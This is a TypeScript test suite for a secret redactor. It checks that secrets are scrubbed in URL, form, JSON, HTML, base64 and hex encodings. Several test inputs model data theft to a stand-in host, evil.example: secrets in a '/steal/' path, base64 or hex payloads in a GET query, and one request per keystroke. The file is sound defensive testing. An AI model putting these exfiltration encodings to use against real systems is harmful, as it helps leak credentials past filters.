import assert from 'node:assert/strict';
import { redactText, spellings } from '../../src/safety/redactor';

/**
 * The spellings a secret comes back in are produced here by the platform's own encoders (the WHATWG URL
 * parser Chrome also uses, URLSearchParams, encodeURIComponent), never by the redactor's code, so a
 * spelling the redactor does not know fails the test.
 */
const SECRETS = [`tok&en <Val>'9 "x"`, 'pä ss wörd!~*()', 'a+b=c;d@e:f,g$h', 'back`tick{^}|[x]\\y', 'nb\u00a0sp & more'];

function platformSpellings(v: string): Record<string, string> {
  const url = new URL(`http://h.example/${v.replace(/[?#]/g, '')}?q=${v.replace(/#/g, '')}#${v}`);
  return {
    path: url.pathname.slice(1),
    query: url.search.slice(3),
    fragment: url.hash.slice(1),
    'form (URLSearchParams)': new URLSearchParams({ v }).toString().slice(2),
    encodeURIComponent: encodeURIComponent(v),
    'ws URL query': new URL(`ws://h.example/?q=${v.replace(/#/g, '')}`).search.slice(3),
    'lower-case escapes': encodeURIComponent(v).replace(/%[0-9A-F]{2}/g, (m) => m.toLowerCase()),
    'JSON string': JSON.stringify(v).slice(1, -1),
    'HTML text (innerHTML)': v.replace(/&/g, '&amp;').replace(/\u00a0/g, '&nbsp;').replace(/</g, '&lt;').replace(/>/g, '&gt;'),
    'HTML attribute (outerHTML)': v.replace(/&/g, '&amp;').replace(/\u00a0/g, '&nbsp;').replace(/"/g, '&quot;'),
  };
}

describe('the one redactor: every spelling the browser or a server writes', () => {
  for (const secret of SECRETS) {
    it(`${JSON.stringify(secret)}: each platform spelling is known and scrubbed from surrounding text`, () => {
      const known = spellings(secret);
      for (const [where, form] of Object.entries(platformSpellings(secret))) {
        assert.ok(known.includes(form), `${where}: ${JSON.stringify(form)} is not a known spelling`);
        const text = `before ${form} after`;
        assert.equal(redactText(text, [[secret, '{{secret:S}}']]), 'before {{secret:S}} after', where);
      }
    });
  }

  it('a whole URL the page built from the value is scrubbed where the value was', () => {
    const secret = `tok&en <Val>'9 "x"`;
    const href = new URL(`http://evil.example/steal/${secret}?v=${secret}&w=1#${secret}`).href;
    const out = redactText(href, [[secret, '[redacted]']]);
    assert.equal(out, 'http://evil.example/steal/[redacted]?v=[redacted]&w=1#[redacted]', out);
  });

  describe('encodings a page applies itself', () => {
    const secret = 'S3cr3t-päss/w0rd+?';
    const label = '{{secret:S}}';
    const bytesOf = (s: string) => Buffer.from(s, 'utf8');
    /** Every run of base64 text in `out`, decoded at each alignment: none may hold 4 bytes of the secret in a row. */
    function leaksBase64(out: string): string | undefined {
      const raw = bytesOf(secret);
      for (const run of out.match(/[A-Za-z0-9+/_-]{4,}={0,2}/g) ?? []) {
        for (let skip = 0; skip < 4; skip++) {
          const decoded = Buffer.from(run.slice(skip).replace(/-/g, '+').replace(/_/g, '/'), 'base64');
          for (let i = 0; i + 4 <= raw.length; i++) if (decoded.includes(raw.subarray(i, i + 4))) return `${run} (at ${skip}) holds bytes ${i}…${i + 3}`;
        }
      }
      return undefined;
    }
    const forms: Record<string, string> = {
      'btoa of the value': Buffer.from(secret).toString('base64'),
      'base64 of "user:" + value (basic auth)': Buffer.from(`user:${secret}`).toString('base64'),
      'base64 of JSON with the value': Buffer.from(JSON.stringify({ password: secret, n: 1 })).toString('base64'),
      'base64url of "ab" + value': Buffer.from(`ab${secret}`).toString('base64url'),
      'base64 in a query (URLSearchParams)': new URLSearchParams({ d: Buffer.from(`x${secret}`).toString('base64') }).toString(),
      hex: Buffer.from(secret).toString('hex'),
      'upper-case hex': Buffer.from(secret).toString('hex').toUpperCase(),
    };
    for (const [what, form] of Object.entries(forms)) {
      it(`${what}: no 4 bytes of the secret survive`, () => {
        const text = `GET http://evil.example/c?${form} sent`;
        const out = redactText(text, [[secret, label]]);
        assert.ok(out.includes(label), `${what} was not recognised: ${out}`);
        assert.equal(leaksBase64(out), undefined, out);
        assert.ok(!out.toLowerCase().includes(Buffer.from(secret).toString('hex').slice(0, 8)), out);
      });
    }

    it('the prefixes a page sends on each keystroke (one request per character, in a query) are scrubbed', () => {
      const sent = [...secret].map((_, i) => new URL(`http://evil.example/suggest?${new URLSearchParams({ q: secret.slice(0, i + 1), n: String(i) })}`).href);
      const text = sent.map((u) => `BLOCKED_BY_POLICY: a fetch request to ${u} was stopped.`).join('\n');
      const out = redactText(text, [[secret, label]]);
      const left = out.match(/q=([^&]*)/g)!;
      // The first two characters say little; from the third on every prefix is gone.
      assert.deepEqual(left.slice(2), left.slice(2).map(() => `q=${label}`), out);
      assert.ok(!out.includes(encodeURIComponent(secret.slice(0, 3))), out);
    });

    it('prefixes in running text are left alone (only whole parameter values count)', () => {
      const text = 'The S3cr3t-p word and q=S3cx';
      assert.equal(redactText(text, [[secret, label]]), text);
    });
  });

  it('values shorter than 3 characters are left alone (they would shred every text)', () => {
    assert.equal(redactText('a b c ab', [['ab', 'X']]), 'a b c ab');
  });
});
